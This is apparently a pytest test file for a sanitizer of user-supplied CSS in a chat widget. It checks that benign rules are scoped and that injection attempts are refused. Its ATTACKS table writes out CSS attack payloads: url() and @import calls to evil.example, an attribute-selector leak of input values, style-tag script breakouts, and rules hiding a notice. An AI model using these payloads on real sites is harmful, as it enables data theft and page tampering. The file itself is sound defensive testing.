"""A style sheet from outside: what passes is written anew, what could hide, load or imitate does not pass."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.deployments.colors import contrast
from app.deployments.custom_css import GUARD, MAX_LENGTH, read_sheet

SAFE = re.compile(r"[-a-zA-Z0-9.,:;{}()#!\"/\n ]*")


def rules(css: str) -> str:
    """What is served, without what stands after every sheet."""
    return read_sheet(css).css.removesuffix(GUARD).strip()


@pytest.mark.parametrize(
    ("given_css", "served"),
    [
        (".bubble { border-radius: 4px }", ".chat .bubble{border-radius:4px}"),
        (".chat { font-family: Georgia, serif }", ".chat{font-family:georgia,serif}"),
        ('.chat{font-family:"Trebuchet MS"}', '.chat{font-family:"trebuchet ms"}'),
        (".from-agent .bubble, .send:hover { padding: 0.5rem 12px }", ".chat .from-agent .bubble,.chat .send:hover{padding:0.5rem 12px}"),
        (".mark{color:#FFF;background:#24518f}", ".chat .mark{color:#ffffff;background-color:#24518f}"),
        (".quote{border:1px solid #abc;box-shadow:0 1px 4px #0002}", ".chat .quote{border:1px solid #abc;box-shadow:0 1px 4px #0002}"),
        (
            "@media (prefers-color-scheme: dark) and (max-width:600px){.mark{color:#000;background:#fff}}",
            "@media (prefers-color-scheme:dark) and (max-width:600px){.chat .mark{color:#000000;background-color:#ffffff}}",
        ),
        ("/* a */ .write { /* b */ border-width: 2px; }", ".chat .write{border-width:2px}"),
    ],
)
def test_what_dresses_passes_and_is_scoped(given_css: str, served: str) -> None:
    sheet = read_sheet(given_css)
    assert not sheet.refused
    assert rules(given_css) == served and sheet.css.endswith(GUARD)


def test_texts_inside_follow_the_colour_of_their_ground() -> None:
    assert ".chat .bar .subtitle,.chat .bar .round{color:inherit}" in rules(".bar{color:#fff;background:#000}")


ATTACKS = {
    "loads a sheet": ('@import url("https://evil.example/x.css");', "@import"),
    "loads a font": ("@font-face{font-family:x;src:url(//evil.example/f)}", "@font-face"),
    "loads an image": (".bubble{background:url(https://evil.example/?leak)}", "url()"),
    "loads an image, quoted": (".bubble{background:url('https://evil.example')}", "url()"),
    "loads by image-set": (".bubble{background:image-set('x' 1x)}", "fonction"),
    "escapes url": (".bubble{background:\\75 rl(//evil.example)}", "url()"),
    "hides url in a comment": (".bubble{background:u/**/rl(//evil.example)}", "fonction"),
    "old expression": (".bubble{width:expression(alert(1))}", "propriété"),
    "old behaviour": (".bubble{behavior:url(x.htc)}", "propriété"),
    "reads attributes": (".bubble{content:attr(value)}", "propriété"),
    "steals input by selector": ("input[value^=a]{background:url(//evil.example/a)}", "parties"),
    "covers the page": (".chat{position:fixed;inset:0}", "propriété"),
    "covers by shadow": (".bubble{box-shadow:0 0 0 9999px #fff}", "longueur"),
    "moves away": (".bar{margin-top:-900px}", "propriété"),
    "pushes away": (".bar{padding-bottom:900px}", "longueur"),
    "transforms": (".bar{transform:scale(0)}", "propriété"),
    "hides": (".chat{display:none}", "propriété"),
    "hides by opacity": (".chat{opacity:0}", "propriété"),
    "hides by size": (".chat{font-size:0}", "longueur"),
    "hides by visibility": (".chat{visibility:hidden}", "propriété"),
    "hides by filter": (".chat{filter:opacity(0)}", "propriété"),
    "hides by clip": (".chat{clip-path:inset(50%)}", "propriété"),
    "hides by indent": (".chat{text-indent:-999px}", "propriété"),
    "chooses the notice": (".notice{font-size:16px}", "parties"),
    "chooses the notice by id": ("#notice{color:#fff;background:#fff}", "parties"),
    "chooses everything": ("*{font-size:16px}", "parties"),
    "chooses by element": ("p{font-size:16px}", "parties"),
    "chooses by negation": (".bubble:not(.x){padding:1px}", "parties"),
    "chooses by has": (".chat:has(#notice){padding:1px}", "parties"),
    "chooses a sibling": (".bubble + .bubble{padding:1px}", "parties"),
    "chooses the outside": (":root{padding:1px}", "parties"),
    "writes words": (".bubble::before{content:'Humain'}", "parties"),
    "colour on colour": (".bubble{color:#eeeeee;background:#ffffff}", "difficile à lire"),
    "colour without ground": (".bubble{color:#111111}", "background-color"),
    "ground without colour": (".bubble{background:#111111}", "« color »"),
    "transparent ground": (".bubble{color:#000;background:#ffffff00}", "opaque"),
    "see-through colour": (".bubble{color:#0000;background:#fff}", "opaque"),
    "colour of a container": (".chat{color:#fff;background:#fff}", "autres fonds"),
    "through a variable": (".bubble{--paper:#fff}", "propriété"),
    "reads a variable": (".bubble{color:var(--paper);background:#fff}", "fonction"),
    "insists": (".bubble{font-size:17px !important}", "!important"),
    "nests": (".bubble{.send{padding:1px}}", "imbriquées"),
    "layers": ("@layer x{.bubble{padding:1px}}", "@layer"),
    "animates": ("@keyframes x{from{opacity:0}}", "@keyframes"),
    "animates a part": (".bubble{animation:x 1s}", "propriété"),
    "asks the browser": ("@supports (display:grid){.bubble{padding:1px}}", "@supports"),
    "registers": ("@property --x{syntax:'*'}", "@property"),
    "nested media": ("@media (max-width:9px){@media (max-width:8px){.bubble{padding:1px}}}", "@media"),
    "media of another kind": ("@media print{.bubble{padding:1px}}", "conditions"),
    "leaves the style element": (".bubble{}</style><script>alert(1)</script>", "règle CSS"),
    "leaves by a string": (".bubble{font-family:'</style><script>'}", "police"),
    "leaves by a selector": ("</style><script>.bubble{padding:1px}", "parties"),
    "broken": (".bubble{padding:1px", None),
    "ended too early": (".bubble padding:1px}", "règle CSS"),
    "deep": ("(" * 3999, "règle CSS"),
    "deep blocks": ("{" * 3999, "sélecteur"),
    "too long": (".bubble{padding:1px}" * 300, "caractères"),
}


@pytest.mark.parametrize(("css", "told"), ATTACKS.values(), ids=ATTACKS)
def test_attacks(css: str, told: str | None) -> None:
    sheet = read_sheet(css)
    if told is None:  # an open block ends with the text, as in a browser
        assert rules(css) == ".chat .bubble{padding:1px}"
        return
    assert any(told in refusal.sentence for refusal in sheet.refused), [refusal.sentence for refusal in sheet.refused]
    assert sheet.css == "" and all(refusal.line == 1 for refusal in sheet.refused)


def test_each_refusal_bears_its_line_and_the_rest_is_kept() -> None:
    sheet = read_sheet(".bubble {\n  padding: 4px;\n  position: fixed;\n}\n\n@import 'x';\n.send { border-radius: 8px }")
    assert [(refusal.line, refusal.subject) for refusal in sheet.refused] == [(3, "position"), (6, "@import")]
    assert ".chat .bubble{padding:4px}" in sheet.css and ".chat .send{border-radius:8px}" in sheet.css


def test_nothing_asked_nothing_served() -> None:
    assert read_sheet(" \n").css == "" and not read_sheet("").refused


PIECES = [*".:#{}()@;,!*/\\<>'\"-_ \n09afpx", ".bubble", "color:", "background:", "#fff", "#000", "url(", "@media", "padding:1px"]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_whatever_is_given_what_is_served_is_tame(css: str) -> None:
    served = read_sheet(css).css
    assert SAFE.fullmatch(served) and "url" not in served and "<" not in served
    assert served == "" or served.endswith(GUARD)


@given(*[st.integers(0, 0xFFFFFF).map(lambda number: f"#{number:06x}")] * 2)
def test_a_text_and_its_ground_are_served_when_they_can_be_read(text: str, ground: str) -> None:
    assert (f"color:{text}" in rules(f".send{{color:{text};background:{ground}}}")) is (contrast(text, ground) >= 4.5)


def test_the_limit_is_the_one_told() -> None:
    assert not read_sheet(".send{padding:1px}".ljust(MAX_LENGTH)).refused
    assert read_sheet(".send{padding:1px}".ljust(MAX_LENGTH + 1)).refused
